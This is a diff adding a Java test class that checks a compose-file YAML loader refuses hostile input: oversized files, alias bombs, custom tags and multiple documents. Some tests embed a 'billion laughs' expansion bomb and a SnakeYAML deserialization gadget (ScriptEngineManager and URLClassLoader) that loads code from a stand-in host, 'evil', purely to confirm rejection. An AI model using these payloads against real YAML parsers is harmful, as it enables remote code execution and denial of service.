@@ -1,0 +1,108 @@
+package dev.stackd.api.compose;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class HostileInputTest {
+    @TempDir
+    Path tmp;
+
+    @Test
+    void aDocumentOverOneMebibyteIsRefused() throws Exception {
+        String big = "services:\n  web:\n    image: x\n" + "# padding\n".repeat(110_000);
+        assertThat(Load.errors(tmp, big)).extracting(e -> e.message()).containsExactly("the compose document is larger than 1 MiB: refused");
+        Path file = Files.writeString(Load.dir(tmp).resolve("compose.yaml"), big);
+        assertThat(ComposeLoader.load(LoadRequest.ofFile(file)).errors()).extracting(e -> e.message())
+                .containsExactly("the compose file is larger than 1 MiB: refused");
+    }
+
+    @Test
+    void billionLaughsIsRefused() {
+        var sb = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+        for (int i = 1; i < 10; i++) {
+            sb.append("a").append(i).append(": &a").append(i).append(" [");
+            for (int j = 0; j < 9; j++) sb.append(j == 0 ? "" : ",").append("*a").append(i - 1);
+            sb.append("]\n");
+        }
+        sb.append("services:\n  web:\n    image: x\n    labels: *a9\n");
+        var errors = Load.errors(tmp, sb.toString());
+        assertThat(errors).singleElement().satisfies(e -> assertThat(e.message()).contains("aliases"));
+    }
+
+    @Test
+    void manyScalarAliasesAreBoundedByTheNodeCount() {
+        // scalar aliases are not limited by SnakeYAML; the walk is
+        var sb = new StringBuilder("x-a: &s lol\nx-list:\n");
+        sb.append("  - [").append("*s,".repeat(20_000)).append("*s]\n");
+        for (int i = 0; i < 6; i++) sb.append("  - [").append("*s,".repeat(20_000)).append("*s]\n");
+        sb.append("services:\n  web:\n    image: x\n");
+        var errors = Load.errors(tmp, sb.toString());
+        assertThat(errors).singleElement().satisfies(e -> assertThat(e.message()).contains("more than 100000 nodes"));
+    }
+
+    @Test
+    void javaTagsAreRefusedBySnakeYaml() {
+        var errors = Load.errors(tmp, """
+                services:
+                  web:
+                    image: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]
+                """);
+        assertThat(errors).singleElement().satisfies(e -> {
+            assertThat(e.message()).isEqualTo("invalid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
+            assertThat(e.line()).isEqualTo(3);
+        });
+    }
+
+    @Test
+    void localTagsAreRefusedWithTheirPath() {
+        var errors = Load.errors(tmp, """
+                services:
+                  web:
+                    image: !custom nginx
+                    command: !reset []
+                """);
+        assertThat(errors).extracting(e -> e.path() + " " + e.message() + " " + e.line() + ":" + e.column()).containsExactly(
+                "services.web.image YAML tag !custom is not supported: only standard tags are allowed 3:12",
+                "services.web.command YAML tag !reset is not supported: only standard tags are allowed 4:14");
+    }
+
+    @Test
+    void multipleDocumentsAreRefused() {
+        var errors = Load.errors(tmp, "services:\n  a:\n    image: x\n---\nservices:\n  b:\n    image: y\n");
+        assertThat(errors).singleElement().satisfies(e -> {
+            assertThat(e.message()).startsWith("multiple YAML documents in one file are not supported");
+            assertThat(e.line()).isEqualTo(5);
+        });
+    }
+
+    @Test
+    void syntaxErrorsAndDuplicateKeysHaveAPosition() {
+        var syntax = Load.errors(tmp, "services:\n  web:\n    image: [x\n");
+        assertThat(syntax).singleElement().satisfies(e -> {
+            assertThat(e.message()).startsWith("invalid YAML:");
+            assertThat(e.line()).isPositive();
+        });
+        var dup = Load.errors(tmp, "services:\n  web:\n    image: x\n    image: y\n");
+        assertThat(dup).extracting(e -> e.path() + " " + e.message() + " " + e.line() + ":" + e.column())
+                .containsExactly("services.web.image duplicate key \"image\" 4:5");
+    }
+
+    @Test
+    void jsonIsReadThroughTheSamePath() {
+        var stack = Load.stack(tmp, """
+                {"services": {"web": {"image": "nginx", "ports": ["8080:80"], "restart": "no"}}}
+                """);
+        assertThat(stack.service("web").ports().getFirst().published()).isEqualTo(8080);
+        var errors = Load.errors(tmp, "{\"services\": {\"web\": {\"image\": \"nginx\",\n \"restart\": \"often\"}}}", Map.of());
+        assertThat(errors).singleElement().satisfies(e -> {
+            assertThat(e.path()).isEqualTo("services.web.restart");
+            assertThat(e.line()).isEqualTo(2);
+            assertThat(e.column()).isEqualTo(13);
+        });
+    }
+}
